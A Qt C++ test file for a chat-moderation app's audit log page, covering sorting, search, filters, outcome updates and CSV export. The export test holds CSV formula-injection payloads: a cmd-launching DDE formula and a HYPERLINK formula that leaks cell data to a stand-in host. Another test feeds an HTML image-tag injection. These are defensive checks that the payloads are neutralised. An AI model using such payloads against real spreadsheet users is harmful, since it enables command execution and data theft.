#include "core/model/AuditEntry.h"
#include "ui/AuditLogFilterModel.h"
#include "ui/AuditLogModel.h"
#include "ui/AuditLogPage.h"
#include "ui/EmptyState.h"
#include "ui/MainWindow.h"

#include "TestMain.h"

#include <QApplication>
#include <QComboBox>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QStackedWidget>
#include <QTableView>
#include <QTemporaryDir>

using namespace roomwarden;
using model::ActionOutcome;
using model::AuditEntry;
using ui::AuditLogModel;
using ui::AuditLogPage;

namespace {
AuditEntry entry(int minute, const QString &moderator, const QString &action, const QString &target,
                 const QString &reason = {},
                 AuditEntry::Source source = AuditEntry::Source::Platform)
{
    AuditEntry e;
    e.source = source;
    e.at = QDateTime(QDate(2024, 5, 1), QTime(10, minute), Qt::UTC);
    e.roomKey = QStringLiteral("twitch:1001");
    e.moderatorId = QStringLiteral("id_") + moderator;
    e.moderatorName = moderator;
    e.action = action;
    e.targetId = QStringLiteral("id_") + target;
    e.targetName = target;
    e.reason = reason;
    e.outcome = ActionOutcome::Applied;
    return e;
}

// Which targets the table shows, top to bottom.
QStringList shownTargets(const AuditLogPage &page)
{
    QStringList out;
    QAbstractItemModel *m = page.table()->model();
    for (int r = 0; r < m->rowCount(); ++r)
        out << m->index(r, AuditLogModel::TargetColumn).data().toString();
    return out;
}

void selectData(QComboBox *combo, const QVariant &data)
{
    const int i = combo->findData(data);
    QVERIFY2(i >= 0, qPrintable(data.toString()));
    combo->setCurrentIndex(i);
}

// A small RFC 4180 reader for checking the export.
QList<QStringList> parseCsv(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                cell += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row << std::exchange(cell, {});
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            row << std::exchange(cell, {});
            rows << std::exchange(row, {});
            ++i;
        } else {
            cell += c;
        }
    }
    return rows;
}
} // namespace

class TestAuditLogPage : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void newestFirst();
    void search_data();
    void search();
    void filters();
    void updateEntryChangesOutcomeInPlace();
    void exportWritesVisibleRowsNeutralised();
    void mainWindowHostsIt();
};

void TestAuditLogPage::newestFirst()
{
    AuditLogPage page;
    QVERIFY(page.findChild<ui::EmptyState *>(QStringLiteral("area.auditLog"))->isVisibleTo(&page));
    page.addEntries(
        {entry(5, QStringLiteral("m1"), QStringLiteral("ban"), QStringLiteral("b")),
         entry(1, QStringLiteral("m1"), QStringLiteral("ban"), QStringLiteral("a")),
         entry(9, QStringLiteral("m2"), QStringLiteral("timeout"), QStringLiteral("c"))});
    QCOMPARE(shownTargets(page), (QStringList{"c", "b", "a"}));
    QVERIFY(!page.findChild<ui::EmptyState *>(QStringLiteral("area.auditLog"))->isVisibleTo(&page));
    // A newer one goes on top; an older one (history loaded later) goes where it belongs.
    page.addEntries({entry(20, QStringLiteral("m1"), QStringLiteral("warn"), QStringLiteral("d"))});
    page.addEntries({entry(3, QStringLiteral("m1"), QStringLiteral("warn"), QStringLiteral("e"))});
    QCOMPARE(shownTargets(page), (QStringList{"d", "c", "b", "e", "a"}));
    const QAbstractItemModel *m = page.table()->model();
    QCOMPARE(m->columnCount(), 8);
    QCOMPARE(m->index(0, AuditLogModel::ActionColumn).data().toString(), QStringLiteral("Warn"));
    QCOMPARE(m->index(0, AuditLogModel::ModeratorColumn).data().toString(), QStringLiteral("m1"));
    QCOMPARE(m->index(0, AuditLogModel::SourceColumn).data().toString(),
             QStringLiteral("Platform"));
    QVERIFY(page.findChild<QLabel *>(QStringLiteral("auditCount"))->text().contains(u'5'));
}

void TestAuditLogPage::search_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QStringList>("targets");
    QTest::newRow("everything") << QString() << QStringList{"carol", "bob", "alice"};
    QTest::newRow("moderator, any case") << "MOD_B" << QStringList{"carol"};
    QTest::newRow("target") << "bob" << QStringList{"bob"};
    QTest::newRow("reason") << "links" << QStringList{"alice"};
    QTest::newRow("detail") << "10 minutes" << QStringList{"bob"};
    QTest::newRow("action label") << "timeout" << QStringList{"bob"};
    QTest::newRow("nothing") << "zzz" << QStringList{};
}

void TestAuditLogPage::search()
{
    QFETCH(QString, text);
    QFETCH(QStringList, targets);
    AuditLogPage page;
    AuditEntry timeout =
        entry(2, QStringLiteral("mod_a"), QStringLiteral("timeout"), QStringLiteral("bob"));
    timeout.detail = QStringLiteral("10 minutes");
    page.addEntries(
        {entry(1, QStringLiteral("mod_a"), QStringLiteral("ban"), QStringLiteral("alice"),
               QStringLiteral("Spam LINKS")),
         timeout,
         entry(3, QStringLiteral("mod_b"), QStringLiteral("warn"), QStringLiteral("carol"))});
    QTest::keyClicks(page.findChild<QLineEdit *>(QStringLiteral("auditSearch")), text);
    QCOMPARE(shownTargets(page), targets);
}

void TestAuditLogPage::filters()
{
    AuditLogPage page;
    page.setOwnModeratorIds({QStringLiteral("id_me")});
    page.addEntries(
        {entry(1, QStringLiteral("me"), QStringLiteral("ban"), QStringLiteral("a"), {},
               AuditEntry::Source::Local),
         entry(2, QStringLiteral("me"), QStringLiteral("timeout"), QStringLiteral("b")),
         entry(3, QStringLiteral("other"), QStringLiteral("ban"), QStringLiteral("c")),
         entry(4, QStringLiteral("other"), QStringLiteral("slow"), QStringLiteral("d"))});
    auto *action = page.findChild<QComboBox *>(QStringLiteral("auditActionFilter"));
    auto *source = page.findChild<QComboBox *>(QStringLiteral("auditSourceFilter"));
    QCOMPARE(action->count(), 4); // all + the three actions present
    selectData(action, QStringLiteral("ban"));
    QCOMPARE(shownTargets(page), (QStringList{"c", "a"}));
    selectData(source, static_cast<int>(ui::AuditLogFilterModel::Who::Mine));
    QCOMPARE(shownTargets(page), (QStringList{"a"}));
    selectData(source, static_cast<int>(ui::AuditLogFilterModel::Who::Others));
    QCOMPARE(shownTargets(page), (QStringList{"c"}));
    selectData(action, QString());
    QCOMPARE(shownTargets(page), (QStringList{"d", "c"}));
    selectData(source, static_cast<int>(ui::AuditLogFilterModel::Who::Mine));
    QCOMPARE(shownTargets(page), (QStringList{"b", "a"})); // platform-reported, by my id
    // Filters and search combine.
    QTest::keyClicks(page.findChild<QLineEdit *>(QStringLiteral("auditSearch")),
                     QStringLiteral("timeout"));
    QCOMPARE(shownTargets(page), (QStringList{"b"}));
}

void TestAuditLogPage::updateEntryChangesOutcomeInPlace()
{
    AuditLogPage page;
    AuditEntry mine = entry(5, QStringLiteral("me"), QStringLiteral("ban"), QStringLiteral("a"), {},
                            AuditEntry::Source::Local);
    mine.intentId = QStringLiteral("intent-1");
    mine.outcome = ActionOutcome::Pending;
    page.addEntries(
        {mine, entry(1, QStringLiteral("x"), QStringLiteral("ban"), QStringLiteral("z"))});
    const QAbstractItemModel *m = page.table()->model();
    QCOMPARE(m->index(0, AuditLogModel::OutcomeColumn).data().toString(),
             QStringLiteral("Sending"));
    mine.outcome = ActionOutcome::AlreadyDone;
    mine.outcomeMessage = QStringLiteral("already banned");
    page.updateEntry(mine);
    QCOMPARE(m->rowCount(), 2);
    QCOMPARE(m->index(0, AuditLogModel::OutcomeColumn).data().toString(),
             QStringLiteral("Already done: already banned"));
    QCOMPARE(shownTargets(page), (QStringList{"a", "z"}));
    // The same outcome arriving through addEntries also updates rather than duplicates.
    mine.outcome = ActionOutcome::Applied;
    mine.outcomeMessage.clear();
    page.addEntries({mine});
    QCOMPARE(m->rowCount(), 2);
    QCOMPARE(m->index(0, AuditLogModel::OutcomeColumn).data().toString(), QStringLiteral("Done"));
    // An outcome for an intent not shown yet is added.
    AuditEntry unknown = mine;
    unknown.intentId = QStringLiteral("intent-2");
    page.updateEntry(unknown);
    QCOMPARE(m->rowCount(), 3);
}

void TestAuditLogPage::exportWritesVisibleRowsNeutralised()
{
    AuditLogPage page;
    AuditEntry hostile = entry(3, QStringLiteral("@mod"), QStringLiteral("ban"),
                               QStringLiteral("=cmd|' /C calc'!A0"),
                               QStringLiteral("=HYPERLINK(\"http://x.test/?\"&A1,\"a, b\")"));
    page.addEntries(
        {entry(1, QStringLiteral("m"), QStringLiteral("ban"), QStringLiteral("plain"),
               QStringLiteral("line1\nline2")),
         hostile,
         entry(2, QStringLiteral("m"), QStringLiteral("timeout"), QStringLiteral("hidden"))});
    auto *action = page.findChild<QComboBox *>(QStringLiteral("auditActionFilter"));
    selectData(action, QStringLiteral("ban"));
    QCOMPARE(page.visibleRowCount(), 2);

    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("audit.csv"));
    QString error;
    QVERIFY2(page.exportCsv(path, &error), qPrintable(error));
    QFile f(path);
    QVERIFY(f.open(QIODevice::ReadOnly));
    const QByteArray bytes = f.readAll();
    QVERIFY(!bytes.startsWith("\xEF\xBB\xBF"));
    const QList<QStringList> rows = parseCsv(QString::fromUtf8(bytes));
    QCOMPARE(rows.size(), 3); // header + the two visible rows, nothing hidden
    QCOMPARE(rows.at(0).at(AuditLogModel::TargetColumn), QStringLiteral("Target"));
    QCOMPARE(rows.at(1).at(AuditLogModel::TimeColumn), QStringLiteral("2024-05-01T10:03:00Z"));
    QCOMPARE(rows.at(1).at(AuditLogModel::ModeratorColumn), QStringLiteral("'@mod"));
    QCOMPARE(rows.at(1).at(AuditLogModel::TargetColumn), QStringLiteral("'=cmd|' /C calc'!A0"));
    QCOMPARE(rows.at(1).at(AuditLogModel::ReasonColumn),
             QStringLiteral("'=HYPERLINK(\"http://x.test/?\"&A1,\"a, b\")"));
    QCOMPARE(rows.at(2).at(AuditLogModel::TargetColumn), QStringLiteral("plain"));
    QCOMPARE(rows.at(2).at(AuditLogModel::ReasonColumn), QStringLiteral("line1\nline2"));
    QVERIFY(!bytes.contains("hidden"));

    QVERIFY(!page.exportCsv(QStringLiteral("/nonexistent-dir/a/b.csv"), &error));
    QVERIFY(!error.isEmpty());
}

void TestAuditLogPage::mainWindowHostsIt()
{
    ui::MainWindow w;
    AuditLogPage *page = w.auditLogPage();
    QVERIFY(page);
    QCOMPARE(w.areaWidget(ui::MainWindow::Area::AuditLog), page);
    w.showArea(ui::MainWindow::Area::AuditLog);
    w.show();
    page->addEntries({entry(1, QStringLiteral("<b>m</b>"), QStringLiteral("ban"),
                            QStringLiteral("<img src=x>"))});
    QVERIFY(page->table()->isVisible());
    QCOMPARE(page->table()->model()->index(0, AuditLogModel::TargetColumn).data().toString(),
             QStringLiteral("<img src=x>"));
    for (QLabel *label : page->findChildren<QLabel *>())
        QCOMPARE(label->textFormat(), Qt::PlainText);
}

ROOMWARDEN_TEST_MAIN_GUI(TestAuditLogPage)
#include "TestAuditLogPage.moc"
